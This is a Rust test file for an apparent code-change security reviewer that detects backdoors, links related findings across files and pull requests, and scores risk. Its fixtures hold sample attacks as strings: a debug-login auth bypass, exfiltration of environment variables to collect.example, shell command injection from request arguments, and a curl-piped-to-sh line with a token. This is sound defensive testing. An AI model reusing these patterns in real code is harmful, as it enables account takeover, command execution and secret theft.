//! The core of the judgement: views hold on any text, links tie what belongs together, the lane follows from the findings.

use std::sync::Arc;

use lazaret::analysis::across::{self, Together};
use lazaret::analysis::engine::{Engine, Selection};
use lazaret::analysis::examples::change_of;
use lazaret::analysis::language::Language;
use lazaret::analysis::lexer::lex;
use lazaret::analysis::rule_set::Tells;
use lazaret::analysis::view::FileView;
use lazaret::analysis::words::lines;
use lazaret::analysis::{links, risk};
use lazaret::model::change::{Change, Texts};
use lazaret::model::diff::{LineKind, Place, Side};
use lazaret::model::finding::{Finding, Fingerprint, Where};
use lazaret::model::link::{Link, Tied};
use lazaret::model::pull::{Origin, PullRef};
use lazaret::model::report::Report;
use lazaret::model::risk::Lane;
use lazaret::model::rule::{Confidence, Example, ExampleFile, FindingClass, RuleId, Severity};
use lazaret::model::story::Story;
use lazaret::model::thread::Threads;
use lazaret::model::time::Timestamp;
use proptest::prelude::*;

const PATHS: [&str; 12] = ["a.py", "a.rs", "a.ts", "a.go", "a.java", "a.rb", "a.sh", "a.php", "a.yml", "a.json", "a.md", "Dockerfile"];

/// A change of one file.
fn change(path: &str, before: Option<&str>, after: Option<&str>) -> (Change, Texts) {
    let file = ExampleFile { path: path.to_owned(), before: before.map(str::to_owned), after: after.map(str::to_owned) };
    change_of(&Example { hits: true, files: vec![file], message: "Change".to_owned(), ..Example::default() })
}

fn finding(name: &str, severity: Severity, at: (&str, u32), evidence: &str) -> Finding {
    let place = Place { path: at.0.into(), side: Side::New, line: at.1 };
    Finding {
        id: Fingerprint(format!("{name}{}", at.1)),
        rule: RuleId("constant-auth"),
        title: name.to_owned(),
        class: FindingClass::Backdoor,
        severity,
        confidence: Confidence::High,
        at: Where::Line { place, end_line: at.1 },
        evidence: evidence.to_owned(),
        why: String::new(),
        fix: String::new(),
        references: Vec::new(),
        links: Vec::new(),
        tool: None,
        also: Vec::new(),
        group: None,
    }
}

fn lane_of(findings: &[Finding]) -> Lane {
    risk::assess(findings, &Story::default(), &[], 0).lane
}

#[test]
fn a_whole_file_and_its_hunks_show_the_same_changed_lines() {
    let before: String = (0..60).map(|n| format!("line {n}\n")).collect();
    let after = before.replace("line 30\n", "line thirty\nand more\n").replace("line 50\n", "");
    let (change, texts) = change("a.txt", Some(&before), Some(&after));
    let none = Texts::default();
    let seen = |texts: &Texts| -> Vec<(u32, String)> {
        let view = FileView::new(&change, &change.patch.files[0], texts);
        view.added().chain(view.removed()).map(|line| (line.number, line.text.to_owned())).collect()
    };
    assert_eq!(seen(&texts), seen(&none));
    assert_eq!(
        seen(&none),
        [(31, "line thirty".to_owned()), (32, "and more".to_owned()), (31, "line 30".to_owned()), (51, "line 50".to_owned())]
    );
}

#[test]
fn a_line_of_twenty_megabytes_is_cut_and_said() {
    let long = format!("x = '{}'\n", "a".repeat(20 * 1024 * 1024));
    let (change, texts) = change("a.py", None, Some(&long));
    let report = Engine::new(&Selection::default()).analyse(&change, &|_| texts.clone());
    assert!(report.skipped.iter().any(|omission| omission.why.contains("64 KiB")), "{:?}", report.skipped);
}

#[test]
fn findings_of_one_rule_in_one_file_are_bounded_and_the_rest_is_said() {
    let text = "x\u{202e}y\n".repeat(5_000);
    let (change, texts) = change("a.txt", None, Some(&text));
    let report = Engine::new(&Selection::default()).analyse(&change, &|_| texts.clone());
    assert!(report.findings.len() < 100);
    assert!(report.skipped.iter().any(|omission| omission.why.contains("only the first")), "{:?}", report.skipped);
}

#[test]
fn a_fingerprint_survives_other_lines_and_indentation() {
    let bad = "def f():\n    return 'a\u{202e}b'\n";
    let id = |text: &str| {
        let (change, texts) = change("a.py", None, Some(text));
        let report =
            Engine::new(&Selection { only: vec!["hidden-unicode".to_owned()], skip: Vec::new() }).analyse(&change, &|_| texts.clone());
        report.findings[0].id.clone()
    };
    assert_eq!(id(bad), id(&format!("import os\n\n\n{}", bad.replace("    ", "\t"))));
    assert_ne!(id(bad), id("y = '\u{202e}'\n"));
}

#[test]
fn lanes_follow_from_the_findings() {
    let note = finding("note", Severity::Info, ("a.py", 1), "x");
    let medium = finding("medium", Severity::Medium, ("a.py", 1), "x");
    let high = finding("high", Severity::High, ("a.py", 1), "x");
    let critical = finding("critical", Severity::Critical, ("a.py", 1), "x");
    assert_eq!(lane_of(&[]), Lane::Clear);
    assert_eq!(lane_of(std::slice::from_ref(&note)), Lane::Clear, "an annotation decides nothing");
    assert_eq!(lane_of(&[note, medium]), Lane::Look);
    assert_eq!(lane_of(&[high.clone(), finding("other", Severity::High, ("b.py", 9), "y")]), Lane::Review);
    assert_eq!(lane_of(&[critical, high]), Lane::Stop);
}

#[test]
fn two_hard_findings_that_share_a_new_name_stop_a_change() {
    let (change, _) = change("a.ts", None, Some("const x = 1\n"));
    let mut findings = vec![
        finding("flag", Severity::High, ("config/defaults.ts", 4), "trustProxyHeaders: true,"),
        finding("use", Severity::High, ("src/verify.ts", 80), "if (flags.trustProxyHeaders) return req.headers['x-user']"),
    ];
    links::link(&change, &Threads::default(), &mut findings);
    assert_eq!(findings[0].why_linked(&findings[1].id), Some("both name `trustProxyHeaders`"));
    assert_eq!(lane_of(&findings), Lane::Stop);
}

#[test]
fn words_and_common_names_that_were_there_before_link_nothing() {
    let linked = |before: &str, name: &str| {
        let (change, _) = change("a.ts", Some(before), Some(&format!("{name}(1)\n")));
        let evidence = format!("{name}(1)");
        let mut findings =
            vec![finding("a", Severity::High, ("a.ts", 40), &evidence), finding("b", Severity::High, ("b.ts", 1), &evidence)];
        links::link(&change, &Threads::default(), &mut findings);
        !findings[0].links.is_empty()
    };
    assert!(linked("const debugLogin = false\n", "debugLogin"), "a coined name whose meaning changes");
    assert!(!linked("return request\n", "request"), "a word");
    assert!(!linked(&"readConfig()\n".repeat(20), "readConfig"), "a name that stands everywhere");
}

#[test]
fn a_score_is_the_sum_of_its_reasons() {
    let findings: Vec<Finding> = (1..9).map(|n| finding("x", Severity::High, ("a.py", n * 50), "evidence")).collect();
    let risk = risk::assess(&findings, &Story::default(), &[], 0);
    assert_eq!(u32::from(risk.score), risk.contributions.iter().map(|reason| u32::from(reason.points)).sum::<u32>());
    assert!(risk.contributions.iter().all(|reason| !reason.why.is_empty()));
}

#[test]
fn more_and_worse_findings_score_higher() {
    let score = |count: u32, severity: Severity| {
        let findings: Vec<Finding> = (0..count).map(|n| finding("x", severity, ("a.py", n * 50 + 1), "evidence")).collect();
        risk::assess(&findings, &Story::default(), &[], 0).score
    };
    assert!(score(1, Severity::Low) < score(1, Severity::Medium) && score(1, Severity::Medium) < score(3, Severity::Medium));
    assert!(score(1, Severity::High) < score(2, Severity::High) && score(9, Severity::High) < score(1, Severity::Critical));
    assert!(score(1, Severity::Critical) < score(2, Severity::Critical) && score(500, Severity::Critical) < 100);
}

#[test]
fn line_differences_have_context_and_numbers() {
    let diff = lines::between("a\nb\nc\n", "a\nB\nc");
    let shown: Vec<(LineKind, &str)> = diff.lines.iter().map(|line| (line.kind, diff.text(line))).collect();
    use LineKind::{Added, Context, Removed};
    assert_eq!(shown, [(Context, "a"), (Removed, "b"), (Removed, "c"), (Added, "B"), (Added, "c")]);
    assert!(diff.lines.last().unwrap().no_newline);
}

/// Text made of what lexers stumble over.
fn tricky() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\"".to_owned()),
        Just("'".to_owned()),
        Just("`".to_owned()),
        Just("${".to_owned()),
        Just("}".to_owned()),
        Just("{".to_owned()),
        Just("(".to_owned()),
        Just(")".to_owned()),
        Just("/*".to_owned()),
        Just("*/".to_owned()),
        Just("//".to_owned()),
        Just("#".to_owned()),
        Just("\\".to_owned()),
        Just("\n".to_owned()),
        Just("\r\n".to_owned()),
        Just("\n=begin".to_owned()),
        Just("r#\"".to_owned()),
        Just("def f(x):\n    ".to_owned()),
        Just("function g() {".to_owned()),
        Just("=> {".to_owned()),
        Just("é\u{202e}".to_owned()),
        "[a-z ]{0,6}",
    ];
    proptest::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn tokens_cover_the_text_in_order(text in tricky(), path in proptest::sample::select(&PATHS[..])) {
        let mut end = 0;
        for token in lex(&text, Language::of(path).syntax()) {
            prop_assert!(token.start >= end && token.end > token.start);
            prop_assert!(text.get(token.range()).is_some());
            end = token.end;
        }
    }

    #[test]
    fn a_view_never_fails_and_masks_byte_for_byte(before in tricky(), after in tricky(), path in proptest::sample::select(&PATHS[..])) {
        let (change, texts) = change(path, Some(&before), Some(&after));
        for texts in [Arc::new(texts), Arc::new(Texts::default())] {
            let view = FileView::new(&change, &change.patch.files[0], &texts);
            for side in [view.old(), view.new_side()].into_iter().flatten() {
                prop_assert_eq!(side.masked().len(), side.text().len());
                for function in side.functions() {
                    prop_assert!(function.first_line <= function.last_line && function.last_line < side.len().max(1));
                }
                for line in side.lines() {
                    prop_assert_eq!(line.code().len(), line.text.len());
                }
            }
        }
    }

    #[test]
    fn the_engine_judges_anything(before in tricky(), after in tricky(), path in proptest::sample::select(&PATHS[..])) {
        let (change, texts) = change(path, Some(&before), Some(&after));
        let report = Engine::new(&Selection::default()).analyse(&change, &|_| texts.clone());
        prop_assert!(report.risk.score <= 100);
    }
}

/// A check over the whole change must not look at all files for each file.
#[test]
fn many_files_take_no_quadratic_time() {
    let file = |at: usize| format!("--- a/s/f{at}.py\n+++ b/s/f{at}.py\n@@ -1 +1 @@\n-a = {at}\n+b = {at}\n");
    let diff: String = (0..4_000).map(file).collect();
    let (mut change, texts) = change("a.py", Some("a\n"), Some("b\n"));
    change.patch = lazaret::sources::unified::parse(diff.as_bytes());
    let engine = Engine::new(&Selection { only: vec!["assertions-lost".to_owned()], skip: Vec::new() });
    let begun = std::time::Instant::now();
    let report = engine.analyse(&change, &|_| texts.clone());
    assert!(report.findings.is_empty() && change.patch.files.len() == 4_000);
    assert!(begun.elapsed() < std::time::Duration::from_secs(20), "{:?}", begun.elapsed());
}

/// The judgement of a change of these files, each with its text before and after.
fn judged(files: &[(&str, Option<&str>, &str)]) -> Report {
    let file = |(path, before, after): &(&str, Option<&str>, &str)| ExampleFile {
        path: (*path).to_owned(),
        before: before.map(str::to_owned),
        after: Some((*after).to_owned()),
    };
    let files = files.iter().map(file).collect();
    let (change, texts) = change_of(&Example { hits: true, files, message: "Change".to_owned(), ..Example::default() });
    Engine::new(&Selection::default()).analyse(&change, &|_| texts.clone())
}

/// A gate that asks the setting `allow_debug_login`.
const GATE: &str = "import os\nfrom app.settings import settings\n\n\ndef authenticate(user, password):\n    if settings.allow_debug_login or os.environ.get(\"DEBUG_AUTH\"):\n        return User(role=\"admin\")\n    return check_password(user, password)\n";

fn why(report: &Report) -> Vec<String> {
    report.findings.iter().flat_map(|finding| &finding.links).map(|link| link.why.clone()).collect()
}

#[test]
fn a_setting_here_and_the_code_that_relaxes_by_it_are_tied_in_words() {
    let report = judged(&[
        ("config/default.yml", Some("auth:\n  rounds: 12\n"), "auth:\n  rounds: 12\n  allow-debug-login: true\n"),
        ("app/auth.py", Some("x = 1\n"), GATE),
    ]);
    let told = "uses `allow_debug_login`, which this change sets there";
    let tied = report.findings.iter().flat_map(|finding| &finding.links).find(|link| link.why == told);
    let Some(Link { to: Tied::Place(at), .. }) = tied else { panic!("{:?}", why(&report)) };
    assert_eq!(at.to_string(), "config/default.yml:3");
}

#[test]
fn a_setting_that_was_there_ties_nothing() {
    let same = "auth:\n  allow-debug-login: true\n";
    let report = judged(&[("config/default.yml", Some(same), &format!("{same}  rounds: 12\n")), ("app/auth.py", Some("x = 1\n"), GATE)]);
    assert!(!why(&report).iter().any(|why| why.contains("allow_debug_login")), "{:?}", why(&report));
}

#[test]
fn a_helper_in_one_file_and_its_call_in_another_are_tied_in_words() {
    let helper = "import requests\n\n\ndef ship_metrics(body):\n    requests.post(\"https://collect.example/x\", json={\"b\": body, \"e\": dict(os.environ)})\n";
    let caller = "import os\nimport subprocess\nfrom app.metrics import ship_metrics\n\n\ndef report(request):\n    ship_metrics(subprocess.check_output(request.args[\"c\"], shell=True))\n";
    let report = judged(&[("app/metrics.py", None, helper), ("app/report.py", Some("x = 1\n"), caller)]);
    let told = why(&report);
    assert!(told.contains(&"uses `ship_metrics`, which this change defines there".to_owned()), "{told:?}");
    assert!(told.contains(&"is part of `ship_metrics`, which is used there".to_owned()), "{told:?}");
}

/// How many of `sources` pulls that bring in the same hook are tied to a later one that uses it; `authors` opened them in turn.
fn tied_by_repetition(sources: usize, authors: &[Option<&str>], user: &str) -> usize {
    let hook = |number: usize| {
        format!("package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {{\n\tregistered[name] = {number}\n}}\n")
    };
    let at = |name: &str| PullRef { origin: Origin::Local, repo: "r".to_owned(), name: name.to_owned() };
    let mut reports: Vec<(PullRef, Report, Option<String>)> = (0..sources)
        .map(|number| {
            let author = authors[number % authors.len()].map(str::to_owned);
            (at(&format!("{number}")), judged(&[(&format!("hooks/h{number}.go"), None, &hook(number))]), author)
        })
        .collect();
    reports.push((at("user"), judged(&[("app/main.py", Some("x = 1\n"), user)]), None));
    let all = reports.iter_mut().map(|(at, report, author)| Together {
        at,
        name: at.name.clone(),
        opened: Timestamp(0),
        author: author.clone(),
        report,
        unreadable: 0,
    });
    across::join(&Engine::new(&Selection::default()), &mut all.collect::<Vec<_>>(), Tells::Last);
    reports.iter().filter(|(_, report, _)| !report.activated.is_empty()).count()
}

#[test]
fn a_staged_attack_does_not_hide_behind_repetition_and_a_habit_of_many_people_ties_nothing() {
    let serious = "import os\nimport requests\n\n\nRegisterAfterRequest(\"metrics\", lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";
    for authors in [vec![None], vec![Some("bot")], vec![Some("a"), Some("b")], vec![None, Some("a")]] {
        assert_eq!(tied_by_repetition(6, &authors, serious), 1, "{authors:?}");
    }
    assert_eq!(tied_by_repetition(6, &[Some("a"), Some("b"), Some("c")], serious), 0);
}

#[test]
fn a_change_is_tied_to_the_one_whose_hook_it_uses_and_raises_it_whatever_their_dates_claim() {
    let hooks = "package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {\n\tregistered[name] = run\n}\n";
    let user = "import os\nimport requests\n\n\nRegisterAfterRequest(\"metrics\", lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";
    let (mut first, mut second) = (judged(&[("hooks/hooks.go", None, hooks)]), judged(&[("app/main.py", Some("x = 1\n"), user)]));
    assert!(first.risk.lane < Lane::Review && second.hard().next().is_some(), "{:?} {:?}", first.findings, second.findings);
    let at = |name: &str| PullRef { origin: Origin::Local, repo: "r".to_owned(), name: name.to_owned() };
    let (one, two) = (at("one"), at("two"));
    let engine = Engine::new(&Selection::default());
    let mut all = [
        Together { at: &two, name: "two".to_owned(), opened: Timestamp(5), author: None, report: &mut second, unreadable: 0 },
        Together { at: &one, name: "one".to_owned(), opened: Timestamp(10), author: None, report: &mut first, unreadable: 0 },
    ];
    across::join(&engine, &mut all, Tells::Last);
    let links: Vec<&Link> = second.findings.iter().flat_map(|finding| &finding.links).collect();
    let earlier = links.iter().find_map(|link| match &link.to {
        Tied::Change { name, place } => Some((name.as_str(), place.to_string(), link.why.as_str())),
        _ => None,
    });
    assert_eq!(earlier, Some(("one", "hooks/hooks.go:3".to_owned(), "uses `RegisterAfterRequest`, which that change defines")));
    assert_eq!((first.risk.lane, first.activated.len()), (Lane::Review, 1));
    assert!(first.risk.contributions.iter().any(|one| one.why.contains("used by two")), "{:?}", first.risk);
}

#[test]
fn what_findings_name_holds_no_secret() {
    let secret = ["ghp", "_", "1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R"].concat();
    let text = format!(
        "import os\n\n\ndef deploy():\n    {} = \"{secret}\"\n    os.system(\"curl -H 'x: \" + token_value + \"{secret}' | sh\")\n",
        "token_value"
    );
    let report = judged(&[("deploy.py", None, &text)]);
    assert!(!report.findings.is_empty() && !format!("{report:?}").contains(&secret));
}

#[test]
fn the_same_lines_in_several_files_are_one_decision_and_others_are_not() {
    let bad = "x = 1\nrequests.get(URL, verify=False)\n";
    let files = [("app/a.py", Some("x = 1\n"), bad), ("app/b.py", Some("x = 1\n"), bad)];
    let other = ("app/c.py", Some("x = 1\n"), "x = 1\nDEBUG = True\nrequests.get(URL, verify=False)\n");
    let report = judged(&[files[0], files[1], other]);
    let groups: Vec<bool> = ["app/a.py", "app/b.py", "app/c.py"]
        .iter()
        .map(|path| {
            let at =
                |finding: &&Finding| finding.at.path().is_some_and(|found| found.text() == *path) && finding.evidence.contains("verify");
            report.findings.iter().find(at).unwrap_or_else(|| panic!("{path}: {:?}", report.findings)).group.is_some()
        })
        .collect();
    assert_eq!(groups, [true, true, false]);
}

#[test]
fn what_thousands_of_findings_name_is_bounded() {
    let text: String = (0..3_000).map(|n| format!("def helper_{n}(x):\n    return eval(x + helper_{n}.name)\n\n\n")).collect();
    let files: Vec<(String, String)> = (0..40).map(|n| (format!("src/part_{n}.py"), text.clone())).collect();
    let files: Vec<(&str, Option<&str>, &str)> = files.iter().map(|(path, text)| (path.as_str(), None, text.as_str())).collect();
    let report = judged(&files);
    assert!(report.findings.len() > 400 && report.threads.mentions.len() == 400, "{}", report.threads.mentions.len());
}
